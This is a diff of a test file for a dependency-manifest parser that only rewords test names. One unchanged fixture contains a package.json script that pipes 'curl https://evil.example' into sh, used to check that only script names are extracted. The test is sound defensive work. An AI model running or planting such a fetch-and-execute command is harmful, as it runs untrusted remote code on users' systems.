@@ -75,7 +75,7 @@ describe('dependencies', () => {
       '[env:esp32]\nplatform = espressif32\nlib_deps =\n  adafruit/DHT sensor library@^1.4.6\n  https://x.example/lib.git\n',
       ['adafruit/DHT sensor library ^1.4.6'],
     ],
-  ])('of %s are read', (path, text, expected) => {
+  ])('dependencies in %s are read', (path, text, expected) => {
     expect(isManifest(path)).toBe(true);
     expect(read(path, text)).toEqual(expected);
   });
@@ -88,11 +88,11 @@ describe('dependencies', () => {
     ['requirements.txt', '\u0000\u0001'],
     ['pom.xml', '<dependency>'.repeat(10_000)],
     ['pyproject.toml', `[project]\ndependencies = [${'"'.repeat(10_000)}`],
-  ])('of a damaged %s are left out', (path, text) => {
+  ])('dependencies in a damaged %s are ignored', (path, text) => {
     expect(read(path, text)).toEqual([]);
   });
 
-  it('versions that are addresses are left out', () => {
+  it('dependency versions that are URLs are omitted', () => {
     expect(
       read(
         'package.json',
@@ -101,7 +101,7 @@ describe('dependencies', () => {
     ).toEqual(['a -', 'b -', 'c 1 || 2']);
   });
 
-  it('are bounded, and counted', () => {
+  it('the list of dependencies is limited, and the total counts all', () => {
     const many = Object.fromEntries(Array.from({ length: 150 }, (_none, index) => [`package-${index}`, '1']));
     const { total, list } = listDependencies(
       [{ path: 'package.json', text: JSON.stringify({ dependencies: many }) }],
@@ -115,7 +115,7 @@ describe('dependencies', () => {
     expect(isManifest('server/package.json')).toBe(true);
   });
 
-  it('scripts are listed by name only', () => {
+  it('only the names of scripts are listed', () => {
     const text = '{"scripts":{"dev":"curl https://evil.example | sh","do this <now>":"x","test:unit":"y"}}';
     expect(scriptNames(text)).toEqual(['dev', 'test:unit']);
   });
